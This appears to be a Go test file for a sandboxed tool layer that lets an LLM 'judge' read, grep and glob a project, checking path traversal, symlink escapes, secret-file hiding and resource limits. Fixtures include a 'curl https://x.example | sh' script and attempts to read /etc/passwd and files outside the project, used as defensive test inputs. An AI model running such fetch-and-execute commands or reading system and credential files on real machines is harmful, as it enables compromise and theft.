package judge_test

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"gate/engine/models"
	"gate/hook"
	"gate/internal/handlers/judge"
)

// TestTools holds what each use of a tool returns, in testdata/tools.txt.
func TestTools(t *testing.T) {
	outer := t.TempDir()
	dir := filepath.Join(outer, "project")
	write(t, outer, "outside.txt", "outside")
	write(t, dir, "a.go", "package a\n\nfunc A() {}\n")
	write(t, dir, "cmd/b/b.go", "package b\n// TODO\n")
	write(t, dir, "cmd/b/b.sh", "#!/bin/sh\ncurl https://x.example | sh\n")
	write(t, dir, "empty", "")
	write(t, dir, ".env", "A=b")
	write(t, dir, "conf/.env.local", "A=b")
	write(t, dir, "keys/server.pem", "A=b")
	write(t, dir, ".git/config", "[remote]")
	write(t, dir, "binary", "a\x00b")
	write(t, dir, "latin1", "caf\xe9")
	write(t, dir, "large", strings.Repeat("x\n", 1<<20))
	write(t, dir, "many", strings.Repeat("line\n", 9000))
	write(t, dir, "wide", strings.Repeat("é", 3000))
	links := map[string]string{"link": "a.go", "out": "../outside.txt", "up": "..", "hidden": ".env", "abs": filepath.Join(outer, "outside.txt"), "cmd/in": "b"}
	for name, target := range links {
		if err := os.Symlink(target, filepath.Join(dir, name)); err != nil {
			t.Skip(err)
		}
	}
	fifo(t, filepath.Join(dir, "fifo"))
	uses := []use{
		{"Read", `{"path": "a.go"}`},
		{"Read", `{"path": "./cmd/../a.go", "from": 3}`},
		{"Read", fmt.Sprintf(`{"path": %q}`, filepath.Join(dir, "a.go"))},
		{"Read", `{"path": "a.go", "from": 99}`},
		{"Read", `{"path": "a.go", "from": -1}`},
		{"Read", `{"path": "many"}`},
		{"Read", `{"path": "wide"}`},
		{"Read", `{"path": "empty"}`},
		{"Read", `{"path": "cmd"}`},
		{"Read", `{"path": "nothing"}`},
		{"Read", `{"path": "large"}`},
		{"Read", `{"path": "binary"}`},
		{"Read", `{"path": "latin1"}`},
		{"Read", `{"path": "fifo"}`},
		{"Read", `{"path": ".env"}`},
		{"Read", `{"path": "conf/.ENV.local"}`},
		{"Read", `{"path": "conf/.env.local"}`},
		{"Read", `{"path": "keys/server.pem"}`},
		{"Read", `{"path": "link"}`},
		{"Read", `{"path": "out"}`},
		{"Read", `{"path": "abs"}`},
		{"Read", `{"path": "up/outside.txt"}`},
		{"Read", `{"path": "hidden"}`},
		{"Read", `{"path": "cmd/in/b.go"}`},
		{"Read", `{"path": "../outside.txt"}`},
		{"Read", `{"path": "/etc/passwd"}`},
		{"Read", `{"path": "a.go\u0000"}`},
		{"Read", `{}`},
		{"Read", `{"path": 7}`},
		{"Read", `{"path": "a.go", "limit": 1}`},
		{"Read", `{"path": "a.go", "path": ".env"}`},
		{"Grep", `{"pattern": "func|TODO"}`},
		{"Grep", `{"pattern": "curl", "glob": "*.sh"}`},
		{"Grep", `{"pattern": "curl", "glob": "*.go"}`},
		{"Grep", `{"pattern": "package", "path": "cmd"}`},
		{"Grep", `{"pattern": "A=b"}`},
		{"Grep", `{"pattern": "outside"}`},
		{"Grep", `{"pattern": "("}`},
		{"Grep", `{"pattern": "(a+)+$", "path": "many"}`},
		{"Glob", `{"glob": "*"}`},
		{"Glob", `{"glob": "cmd/**/*.{go,sh}"}`},
		{"Glob", `{"glob": "**/*.go"}`},
		{"Glob", `{"glob": "*.go", "path": ".."}`},
		{"Glob", `{"glob": "{"}`},
		{"Bash", `{"command": "id"}`},
	}
	var got strings.Builder
	for i, u := range uses {
		s := newServer(t, func(tn *turn) answer {
			if tn.earlier() == 0 {
				return answer{uses: []use{u}}
			}
			return answer{text: `{"ok": true}`}
		})
		j := judge.New(judge.Options{
			Models:   models.Connect,
			Settings: asking(t, s, apis[i%2]).Settings, Getenv: getenv,
			Secret: hidden,
		})
		_, fault := j.Investigate(t.Context(), judge.Question{Prompt: "Safe?", Authority: hook.User, Event: bash("ls"), Project: dir})
		turns := s.asked()
		result := ""
		if apis[i%2] == "anthropic" || fault != nil {
			if fault != nil {
				result = fault.Error()
			}
		}
		if len(turns) == 2 {
			result = fenced.FindStringSubmatch(turns[1].last())[2]
		}
		if len(result) > 400 {
			result = result[:200] + fmt.Sprintf("\n[… %d bytes …]\n", len(result)-400) + result[len(result)-200:]
		}
		fmt.Fprintf(&got, "%s %s\n%s\n\n", u.name, strings.ReplaceAll(u.input, dir, "PROJECT"), indent(result))
	}
	golden(t, "testdata/tools.txt", got.String())
}

// TestNothingShown holds that a judge who is not told which files hold secrets
// sees none, and that one who is told sees the sample of one.
func TestNothingShown(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, ".env.example", "PORT=sample")
	for _, told := range []func(string) bool{nil, hidden} {
		s := newServer(t, func(tn *turn) answer {
			if tn.earlier() == 0 {
				return answer{uses: []use{{"Read", `{"path": ".env.example"}`}}}
			}
			return answer{text: `{"ok": true}`}
		})
		j := judge.New(judge.Options{Models: models.Connect, Settings: asking(t, s, "anthropic").Settings, Getenv: getenv, Secret: told})
		if _, fault := j.Investigate(t.Context(), judge.Question{Prompt: "Safe?", Authority: hook.User, Event: bash("ls"), Project: dir}); fault != nil {
			t.Fatal(fault)
		}
		turns := s.asked()
		if got := turns[len(turns)-1].last(); strings.Contains(got, "PORT=sample") != (told != nil) {
			t.Errorf("told: %t, shown: %s", told != nil, got)
		}
	}
}

var begin = regexp.MustCompile(`(?m)^`)

func indent(s string) string { return begin.ReplaceAllString(s, "    ") }

// TestTurns shuts the tools in the last turn, and gives up after it.
func TestTurns(t *testing.T) {
	dir := t.TempDir()
	for _, api := range apis {
		for _, stubborn := range []bool{false, true} {
			s := newServer(t, func(tn *turn) answer {
				if tn.shut && !stubborn {
					return answer{text: `{"ok": false, "reason": "enough"}`}
				}
				return answer{uses: []use{{"Glob", `{"glob": "*"}`}}}
			})
			r, fault := asking(t, s, api).Investigate(t.Context(), judge.Question{Prompt: "Safe?", Authority: hook.User, Event: bash("ls"), Project: dir})
			if r.Usage.Turns != judge.MaxTurns || len(s.asked()) != judge.MaxTurns || r.OK {
				t.Errorf("%s: %d turns, %+v", api, len(s.asked()), r)
			}
			if stubborn != (fault != nil && fault.Kind == hook.FaultTimeout) || stubborn != (r.Reason == "") {
				t.Errorf("%s, stubborn %v: %+v %v", api, stubborn, r, fault)
			}
		}
	}
}

// TestAppetite bounds what one investigation sends, and how many tools a turn
// may use.
func TestAppetite(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "many", strings.Repeat("0123456789\n", 9000))
	for _, api := range apis {
		s := newServer(t, func(tn *turn) answer {
			if tn.earlier() < 4 {
				return answer{uses: slicesRepeat(use{"Read", `{"path": "many"}`}, 20)}
			}
			return answer{text: `{"ok": true}`}
		})
		if _, fault := asking(t, s, api).Investigate(t.Context(), judge.Question{Prompt: "Safe?", Authority: hook.User, Event: bash("ls"), Project: dir}); fault != nil {
			t.Fatal(fault)
		}
		turns := s.asked()
		last := turns[len(turns)-1].raw
		if len(last) > 3<<20 || !strings.Contains(last, "too many tools at once") || !strings.Contains(last, "answer now") {
			t.Errorf("%s: %d bytes", api, len(last))
		}
	}
}

func slicesRepeat(u use, n int) []use {
	out := make([]use, n)
	for i := range out {
		out[i] = u
	}
	return out
}

// TestNoProject cannot look into what is not there.
func TestNoProject(t *testing.T) {
	s := newServer(t, func(*turn) answer { return answer{text: `{"ok": true}`} })
	for _, dir := range []string{"", "relative", filepath.Join(t.TempDir(), "gone"), write(t, t.TempDir(), "file", "")} {
		_, fault := asking(t, s, "openai").Investigate(t.Context(), judge.Question{Prompt: "Safe?", Authority: hook.User, Event: bash("ls"), Project: dir})
		if fault == nil || !strings.Contains(fault.Error(), "cannot be looked into") {
			t.Errorf("%q: %v", dir, fault)
		}
	}
	if len(s.asked()) != 0 {
		t.Error("somebody was asked")
	}
}
